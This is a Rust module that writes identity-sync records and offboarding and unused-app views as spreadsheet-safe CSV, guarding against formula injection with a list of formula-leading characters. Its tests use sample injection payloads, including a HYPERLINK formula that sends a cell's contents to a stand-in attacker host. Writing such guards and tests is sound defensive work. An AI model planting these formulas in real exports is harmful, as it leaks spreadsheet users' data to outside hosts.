//! Comma-separated values of records and unsynced rows: RFC 4180, safe to open in a spreadsheet.

use std::io::{self, Write};

use serde::Serialize;
use serde_json::{Map, Value};

use crate::model::app::Unused;
use crate::model::{Holding, Record, UnsyncedRow};

/// A list of comma-separated values that is being written: a header of the rows' keys, then the rows.
pub struct Csv<W: Write> {
    writer: csv::Writer<W>,
    columns: Vec<Column>,
}

/// A column: one key of a row, or one field of its `fields`.
enum Column {
    Key(&'static str),
    Field(String),
}

impl<W: Write> Csv<W> {
    /// Records of one mapping, whose fields have these names.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn records(writer: W, fields: impl IntoIterator<Item = String>) -> io::Result<Csv<W>> {
        let before = ["connection", "mapping", "kind", "id", "identifier", "state", "reason", "role"];
        let after = [
            "okta_status",
            "source_updated",
            "first_synced",
            "last_changed",
            "source_created",
            "previous_ids",
            "revision",
        ];
        let columns = before.map(Column::Key).into_iter();
        Csv::begin(writer, columns.chain(fields.into_iter().map(Column::Field)).chain(after.map(Column::Key)).collect())
    }

    /// Unsynced rows.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn unsynced(writer: W) -> io::Result<Csv<W>> {
        let keys = [
            "connection",
            "mapping",
            "id",
            "identifier",
            "reason",
            "message",
            "hint",
            "first_seen",
            "last_seen",
            "attempts",
        ];
        Csv::begin(writer, keys.map(Column::Key).into())
    }

    /// Rows of the offboarding view.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn holdings(writer: W) -> io::Result<Csv<W>> {
        let person = ["connection", "person", "identifier", "reason", "person_updated"];
        let thing = ["thing", "id", "name", "status", "tie", "since", "until"];
        Csv::begin(writer, person.into_iter().chain(thing).map(Column::Key).collect())
    }

    /// Writes a row of the offboarding view.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn holding(&mut self, holding: &Holding) -> io::Result<()> {
        self.row(holding)
    }

    /// Rows of the view of what is not used.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn unused(writer: W) -> io::Result<Csv<W>> {
        let app = ["connection", "app", "app_name", "app_status"];
        let person = ["person", "assigned", "since", "last_sign_on", "observed_since"];
        Csv::begin(writer, app.into_iter().chain(person).map(Column::Key).collect())
    }

    /// Writes a row of what is not used.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn unused_row(&mut self, row: &Unused) -> io::Result<()> {
        self.row(row)
    }

    /// Writes a record.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn record(&mut self, record: &Record) -> io::Result<()> {
        self.row(record)
    }

    /// Writes an unsynced row.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn unsynced_row(&mut self, row: &UnsyncedRow) -> io::Result<()> {
        self.row(row)
    }

    /// Where it is written to.
    pub fn writer(&self) -> &W {
        self.writer.get_ref()
    }

    /// Writes what is left.
    ///
    /// # Errors
    /// When it cannot be written.
    pub fn end(mut self) -> io::Result<()> {
        self.writer.flush()
    }

    fn begin(writer: W, columns: Vec<Column>) -> io::Result<Csv<W>> {
        let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(writer);
        // A field's name comes from a connection, so it is guarded like a value.
        writer.write_record(columns.iter().map(|column| match column {
            Column::Key(key) => (*key).to_owned(),
            Column::Field(name) => format!("fields.{name}"),
        }))?;
        Ok(Csv { writer, columns })
    }

    fn row(&mut self, row: &impl Serialize) -> io::Result<()> {
        let row = serde_json::to_value(row)?;
        let none = Map::new();
        let fields = row["fields"].as_object().unwrap_or(&none);
        let cells = self.columns.iter().map(|column| match column {
            Column::Key(key) => cell(&row[*key]),
            Column::Field(name) => cell(fields.get(name).unwrap_or(&Value::Null)),
        });
        Ok(self.writer.write_record(cells)?)
    }
}

/// A value as the text of a cell: null is empty, a list of strings is joined by `;`, anything deeper is JSON.
fn cell(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => guarded(text),
        // Not text, so no formula either: a negative number stays one.
        Value::Bool(_) | Value::Number(_) => value.to_string(),
        Value::Array(items) => {
            let texts: Option<Vec<&str>> = items.iter().map(Value::as_str).collect();
            texts.map_or_else(|| value.to_string(), |texts| guarded(&texts.join(";")))
        }
        Value::Object(_) => value.to_string(),
    }
}

/// What a formula, or what leads to one, begins with; full-width signs are as good as plain ones to some spreadsheets
/// (OWASP, "CSV Injection").
const BEGINS_A_FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// A text that a spreadsheet shows and does not calculate.
fn guarded(text: &str) -> String {
    if text.starts_with(BEGINS_A_FORMULA) { format!("'{text}") } else { text.to_owned() }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::Csv;
    use crate::model::{Record, RejectionReason, UnsyncedRow};

    fn record(fields: serde_json::Value) -> Record {
        serde_json::from_value(json!({
            "connection": "acme", "mapping": "staff", "kind": "record", "id": "00u1", "identifier": "=1+1",
            "state": "inactive", "reason": "out_of_scope", "role": null, "fields": fields, "okta_status": "ACTIVE",
            "source_updated": "2026-11-20T10:00:00.000Z", "first_synced": "2026-11-20T10:05:00.000Z",
            "last_changed": "2026-11-20T10:05:00.000Z", "source_created": "2026-11-20T10:00:00.000Z",
            "previous_ids": ["00u8", "00u9"], "revision": 3
        }))
        .unwrap()
    }

    fn check(fields: serde_json::Value, names: &[&str], expected: &str) {
        let mut bytes = Vec::new();
        let mut csv = Csv::records(&mut bytes, names.iter().map(|name| (*name).to_owned())).unwrap();
        csv.record(&record(fields)).unwrap();
        csv.end().unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let (_, row) = text.trim_end().split_once("\r\n").unwrap();
        let end = ",ACTIVE,2026-11-20T10:00:00.000Z,2026-11-20T10:05:00.000Z,2026-11-20T10:05:00.000Z,\
                   2026-11-20T10:00:00.000Z,00u8;00u9,3";
        assert_eq!(row, format!("acme,staff,record,00u1,'=1+1,inactive,out_of_scope,,{expected}{end}"));
    }

    #[test]
    fn the_header_is_the_rows_keys() {
        let mut bytes = Vec::new();
        Csv::records(&mut bytes, ["a".to_owned()]).unwrap().end().unwrap();
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "connection,mapping,kind,id,identifier,state,reason,role,fields.a,okta_status,source_updated,first_synced,\
             last_changed,source_created,previous_ids,revision\r\n"
        );
    }

    #[test]
    fn quotes_and_guards() {
        check(json!({"a": "x, \"y\"\nz"}), &["a"], "\"x, \"\"y\"\"\nz\"");
        check(json!({"a": "@cmd", "b": "\tx", "c": "+49"}), &["a", "b", "c"], "'@cmd,'\tx,'+49");
        check(json!({"a": -5, "b": true, "c": null}), &["a", "b", "c", "d"], "-5,true,,");
        check(json!({"a": {"k": [1]}, "b": ["p", "q"]}), &["a", "b"], "\"{\"\"k\"\":[1]}\",p;q");
        let link = r#"=HYPERLINK("https://evil.example/?x="&A1,"Click")"#;
        check(json!({ "a": link }), &["a"], &format!("\"'{}\"", link.replace('"', "\"\"")));
        check(json!({"a": ["=1+1", "x"], "b": "＝1+1", "c": "\n=1"}), &["a", "b", "c"], "'=1+1;x,'＝1+1,\"'\n=1\"");
    }

    /// Whatever a value holds, a reader of comma-separated values gets it back, the guard's apostrophe aside.
    #[test]
    fn values_survive_the_round_trip() {
        let values = [
            "O'Brien, \"Bob\"",
            "Zoë\r\nMüller",
            "👩‍💻 東京",
            "a;b",
            "'quoted'",
            " spaced ",
            "",
            "\"",
            ",",
            "x=1",
            "\u{feff}x",
            "=HYPERLINK(\"https://evil.example\")",
            "+44 7700 900123",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ];
        for value in values {
            let row = UnsyncedRow {
                connection: "acme".to_owned(),
                mapping: "staff".to_owned(),
                id: "00u1".to_owned(),
                identifier: Some(value.to_owned()),
                reason: RejectionReason::MissingRequired,
                message: format!("fields.x: required, but `{value}` is null or empty"),
                hint: value.to_owned(),
                first_seen: "2026-11-20T10:00:00.000Z".parse().unwrap(),
                last_seen: "2026-11-20T10:05:00.000Z".parse().unwrap(),
                attempts: 2,
            };
            let mut bytes = Vec::new();
            let mut csv = Csv::unsynced(&mut bytes).unwrap();
            csv.unsynced_row(&row).unwrap();
            csv.end().unwrap();
            let mut reader = csv::Reader::from_reader(bytes.as_slice());
            let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
            assert_eq!(header[..5], ["connection", "mapping", "id", "identifier", "reason"]);
            let read: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert_eq!((read.len(), read[0].len()), (1, 10), "{value:?}");
            let guarded = read[0][3].starts_with(super::BEGINS_A_FORMULA);
            assert!(!guarded, "{value:?} came out as {:?}", &read[0][3]);
            assert_eq!(read[0][3].strip_prefix('\'').filter(|_| value != "'quoted'").unwrap_or(&read[0][3]), value);
            assert_eq!(&read[0][5], row.message, "{value:?}");
        }
    }
}
